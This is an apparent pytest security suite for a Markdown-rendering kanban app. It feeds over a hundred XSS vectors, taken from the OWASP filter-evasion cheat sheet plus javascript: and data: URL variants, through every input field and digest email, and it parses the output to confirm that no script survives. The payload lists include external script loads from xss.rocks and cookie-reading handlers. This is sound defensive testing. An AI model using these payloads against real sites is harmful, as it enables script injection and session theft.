"""Hostile Markdown never becomes script, in any page or mail (SPEC §8, issue 12).

The vectors: a selection of the OWASP XSS filter-evasion cheat sheet, `javascript:` in every
form (case, entities, whitespace, newlines, references, autolinks), `data:` URIs and nested
HTML. Each goes through every place that takes Markdown (task, project and story
descriptions, comments, the preview) and every page that then shows it is parsed with
html.parser: no script but the app's own, no event attribute, no javascript:/vbscript:/data:
URL, no frame, object, style or base; inside rendered Markdown only the allow-list of
kanvaro.markdown. A refusal (422) is fine; its page is checked too. The digest mail of a
mention in a hostile comment is checked the same way.
"""

from __future__ import annotations

import re
from datetime import timedelta
from html.parser import HTMLParser
from typing import Any

import pytest
from sqlalchemy import func, select, update

from kanvaro.columns import utcnow
from kanvaro.comments.models import Comment
from kanvaro.markdown import ATTRIBUTES, TAGS
from kanvaro.models import EmailOutbox, Task, User
from kanvaro.notifications.digest import run_digests
from tests.reliability.conftest import World

JS = "javascript:alert(1)"
OWASP = [
    "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<SCRIPT/SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "\\\";alert('XSS');//",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "</textarea><script>alert(1)</script>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<svg/onload=alert('XSS')>",
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    "<META HTTP-EQUIV=\"Link\" Content=\"<http://xss.rocks/xss.css>; REL=stylesheet\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<SCRIPT a=\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<A HREF=\"javascript:document.location='http://www.google.com/'\">XSS</A>",
    "<XSS STYLE=\"behavior: url(xss.htc);\">",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<HTML><BODY><?xml:namespace prefix=\"t\" ns=\"urn:schemas-microsoft-com:time\"><?import namespace=\"t\" implementation=\"#default#time2\"><t:set attributeName=\"innerHTML\" to=\"XSS<SCRIPT DEFER>alert(&quot;XSS&quot;)</SCRIPT>\"></BODY></HTML>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<details open ontoggle=alert(1)>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<form action=\"javascript:alert(1)\"><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<a hx-get=\"/logout\" hx-trigger=\"load\">x</a>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
]
JAVASCRIPT_FORMS = [
    f"[x]({JS})", "[x](JAVASCRIPT:alert(1))", "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))", "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))", "[x](&#0000106avascript:alert(1))",
    "[x](jav&#97;script:alert(1))", "[x](javascript&#58;alert(1))",
    "[x](java&#x09;script:alert(1))", "[x](java&#10;script:alert(1))",
    "[x](java%0ascript:alert(1))", "[x](javascript://%0aalert(1))",
    "[x]( javascript:alert(1))", "[x](<javascript:alert(1)>)", "[x](\tjavascript:alert(1))",
    "[x](java\nscript:alert(1))", "[x](\njavascript:alert(1))", "<javascript:alert(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)", "[x][r]\n\n[r]: <JavaScript:alert(1)> \"t\"",
    f"![x]({JS})", f"[![i](https://x.test/i.png)]({JS})", "[x](vbscript:msgbox(1))",
    "[x](livescript:alert(1))", f"[x](https://x.test \"{JS}\")",
    "[x](https://x.test \"\\\" onmouseover=\\\"alert(1)\")", f"[@olive.owner]({JS})",
    f"**[bold]({JS})**", f"> [quoted]({JS})", f"- [listed]({JS})",
]
DATA_URIS = [
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](DATA:text/html,<script>alert(1)</script>)", "[x](data:,alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](data:image/png;base64,iVBORw0KGgo=)", "<data:text/html,alert(1)>",
    "[x](&#100;ata:text/html,alert(1))", "[x]( data:text/html,alert(1))",
]
NESTED = [
    "<div><p><a href=\"javascript:alert(1)\">x</a></p></div>",
    "**<img src=x onerror=alert(1)>**", "> <script>alert(1)</script>",
    "- <iframe src=javascript:alert(1)>", "| <script>x</script> | b |\n|-|-|\n| 1 | 2 |",
    "```html\n<script>alert(1)</script>\n```", "`<script>alert(1)</script>`",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "[<img src=x onerror=alert(1)>](https://x.test)",
    "<<img src=x onerror=alert(1)>>", "<a href='https://x.test'><script>alert(1)</script></a>",
    "> - **_<svg><script>alert(1)</script></svg>_**", "# <img src=x onerror=alert(1)>",
    "@<script>alert(1)</script> #1.1<script>alert(1)</script>",
    "<table><tr><td onclick=alert(1)>x</td></tr></table>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
]
VECTORS = OWASP + JAVASCRIPT_FORMS + DATA_URIS + NESTED

SCHEMES = ("javascript:", "vbscript:", "livescript:", "data:")
URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "background", "dynsrc", "lowsrc",
             "data", "poster", "srcset", "cite", "ping", "codebase", "longdesc", "usemap", "content"}
NEVER = {"iframe", "frame", "frameset", "object", "embed", "applet", "style", "base", "math",
         "bgsound", "xss", "noscript", "template", "portal"}
VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source",
        "track", "wbr"}
_SPACE = re.compile(r"[\x00-\x20\x7f-\xa0\u1680\u2000-\u200f\u2028\u2029\u205f\u3000\ufeff]+")


def _scheme_of(value: str) -> str:
    return _SPACE.sub("", value).lower()


class _Audit(HTMLParser):
    """Every start tag of a page, judged: the page-wide rules, and the allow-list inside
    rendered Markdown (`class="... markdown ..."`)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.depth = 0  # > 0 inside rendered Markdown
        self.in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._judge(tag, attrs)
        if self.depth:
            if tag not in VOID:
                self.depth += 1
        elif "markdown" in (dict(attrs).get("class") or "").split():
            self.depth = 1
        self.in_script = tag == "script"

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._judge(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        if self.depth and tag not in VOID:
            self.depth -= 1
        self.in_script = False

    def handle_data(self, data: str) -> None:
        if self.in_script and data.strip():
            self.problems.append(f"inline script: {data[:80]!r}")

    def handle_comment(self, data: str) -> None:
        if self.depth:
            self.problems.append(f"a comment in Markdown: {data[:80]!r}")

    def _judge(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = dict(attrs)
        say = f"<{tag} {' '.join(f'{k}={v!r}' for k, v in attrs)}>"[:200]
        if tag in NEVER:
            self.problems.append(f"forbidden element {say}")
        if tag == "script" and not (found.get("src") or "").startswith("/static/"):
            self.problems.append(f"script {say}")
        if tag == "meta" and "http-equiv" in found:
            self.problems.append(f"meta refresh or link {say}")
        if tag == "svg" and found.get("class") != "icon":
            self.problems.append(f"svg {say}")
        for name, value in attrs:
            if name.startswith(("on", "hx-on")) or name in ("style", "srcdoc"):
                self.problems.append(f"attribute {name} on {say}")
            if name in URL_ATTRS and value and _scheme_of(value).startswith(SCHEMES) and not (
                    tag == "link" and found.get("rel") == "icon" and value == "data:,"):
                self.problems.append(f"{_scheme_of(value)[:12]} URL in {say}")
            if name in ("action", "formaction") and value and not value.startswith("/"):
                self.problems.append(f"form to elsewhere {say}")
        if self.depth:
            self._judge_markdown(tag, found, say)

    def _judge_markdown(self, tag: str, found: dict[str, str | None], say: str) -> None:
        if tag not in TAGS:
            self.problems.append(f"{tag} in Markdown: {say}")
            return
        allowed = ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        extra = set(found) - allowed
        if extra:
            self.problems.append(f"attributes {sorted(extra)} in Markdown: {say}")
        if tag == "a":
            href = found.get("href") or ""
            if not re.match(r"(https?:|mailto:|/tasks/\d+$|/team#member-\d+$)", href):
                self.problems.append(f"link in Markdown: {say}")
            if found.get("rel") != "nofollow noopener noreferrer":
                self.problems.append(f"link without rel in Markdown: {say}")
            if found.get("class") not in (None, "task-ref", "mention"):
                self.problems.append(f"class in Markdown: {say}")


def problems_in(html: str) -> list[str]:
    audit = _Audit()
    audit.feed(html)
    audit.close()
    return audit.problems


def assert_safe(html: str, where: str) -> None:
    found = problems_in(html)
    assert not found, f"{where}:\n" + "\n".join(found)


def test_the_audit_would_see_each_kind_of_script():
    """The control: each rule catches what it is for, and the app's own page passes."""
    assert problems_in('<script src="/static/kanvaro.js"></script><link rel="icon" href="data:,">') == []
    for bad in ["<script>alert(1)</script>", '<script src="//evil/x.js"></script>',
                '<img src=x onerror="alert(1)">', '<a href=" JaVa\nScRiPt:alert(1)">x</a>',
                '<a href="data:text/html,x">x</a>', "<iframe src=/x></iframe>", "<style>*{}</style>",
                '<div style="x">', '<meta http-equiv="refresh" content="0">', "<svg onload=x>",
                '<form action="https://evil/"></form>', '<a hx-on:click="x">y</a>',
                '<div class="markdown"><img src="/x"></div>',
                '<div class="markdown"><a href="/logout">x</a></div>',
                '<div class="markdown"><a href="https://x" rel="nofollow noopener noreferrer" id="y">x</a></div>',
                '<div class="markdown"><a href="https://x">no rel</a></div>']:
        assert problems_in(bad), bad
    assert problems_in('<div class="markdown"><p>x</p></div><img src="/a.png">') == []


def test_the_vectors_are_many_and_every_form_of_javascript_is_there():
    assert len(OWASP) >= 40 and len(VECTORS) >= 100 and len(set(VECTORS)) == len(VECTORS)


# -- through every place that takes Markdown ----------------------------------------------

def _pages(browser: Any, urls: list[str]) -> list[tuple[str, str]]:
    out = []
    for url in urls:
        r = browser.get(url)
        assert r.status_code == 200, (url, r.status_code)
        out.append((f"GET {url}", r.text))
    return out


def _posted(browser: Any, url: str, body: Any, htmx: bool = False) -> tuple[str, str]:
    r = browser.post(url, body, htmx=htmx)
    assert r.status_code in (200, 303, 422), (url, r.status_code, r.text[-600:])
    return f"POST {url} -> {r.status_code}", r.text


def _every_place(browser: Any, db: Any, w: World, text: str, thorough: bool) -> list[tuple[str, str]]:
    """Each place takes the text; the answers and the pages that show it are returned. The
    edit pages of projects, stories and comments refill the text with the same macro as the
    task's, so they are asked for every fifth vector (`thorough`), to keep the suite quick."""
    p, t, s = w.project_id, w.task_id, w.story_id
    seen = [_posted(browser, f"/projects/{p}/tasks", {"title": "Hostile task", "description": text})]
    new_task = db.scalar(select(func.max(Task.id)).where(Task.project_id == p))
    seen += [
        _posted(browser, f"/tasks/{t}", {"title": "Fuel the rocket", "description": text,
                                         "priority": "high", "status": "todo"}),
        _posted(browser, f"/projects/{p}", [
            ("name", "Apollo"), ("description", text), ("status", "active"), ("priority", "high"),
            ("members", str(w.owner.id)), ("members", str(w.member.id))]),
        _posted(browser, f"/stories/{s}", {"title": "Launch", "description": text,
                                           "priority": "high", "status": "todo"}),
        _posted(browser, f"/tasks/{t}/comments", {"body": text}, htmx=True),
        _posted(browser, "/markdown/preview", {"text": text, "project_id": str(p)}, htmx=True),
        _posted(browser, f"/markdown/preview?field=description&project_id={p}",
                {"title": "x", "description": text}),
    ]
    # The pages that show the text (the project list and the board show titles only).
    pages = [f"/tasks/{t}", f"/tasks/{new_task}", f"/tasks/{t}/edit", f"/projects/{p}",
             f"/stories/{s}", f"/projects/{p}/activity"]
    if thorough:
        seen.append(_posted(browser, f"/tasks/{t}/comments", {"body": text}))
        comment = db.scalar(select(func.max(Comment.id)).where(Comment.task_id == t))
        pages += [f"/projects/{p}/edit", f"/stories/{s}/edit", f"/comments/{comment}/edit"]
    return seen + _pages(browser, pages)


@pytest.mark.parametrize(("i", "text"), list(enumerate(VECTORS)),
                         ids=[f"v{i:03}" for i in range(len(VECTORS))])
def test_hostile_markdown_yields_no_script_in_any_page(browser, db, world, i, text):
    browser.login_as(world.owner)
    for where, html in _every_place(browser, db, world, text + " @mo.member #1.1", i % 5 == 0):
        assert_safe(html, f"{where} with {text!r}")


def test_hostile_markdown_in_comments_yields_no_script_in_the_digest_mail(browser, db, world):
    """A hostile name, title and comments that mention Mo: his digest is checked."""
    hostile = "<script>alert(1)</script><img src=x onerror=alert(1)>"
    db.execute(update(User).where(User.id == world.owner.id).values(name="Olive " + hostile))
    db.execute(update(Task).where(Task.id == world.task_id).values(title="Fuel " + hostile))
    db.commit()
    browser.login_as(world.owner)
    for text in VECTORS[:60]:
        r = browser.post(f"/tasks/{world.task_id}/comments", {"body": text + " @mo.member"})
        assert r.status_code in (303, 422), r.status_code
    assert run_digests(browser.engine, browser.settings, now=utcnow() + timedelta(hours=1)) >= 1
    mails = list(db.scalars(select(EmailOutbox).where(EmailOutbox.to == world.member.email)))
    assert mails, "no digest for the mentioned member"
    for m in mails:
        assert_safe(m.html_body, f"digest to {m.to}")
    assert "Fuel &lt;script&gt;" in mails[0].html_body  # the hostile title is there, as text
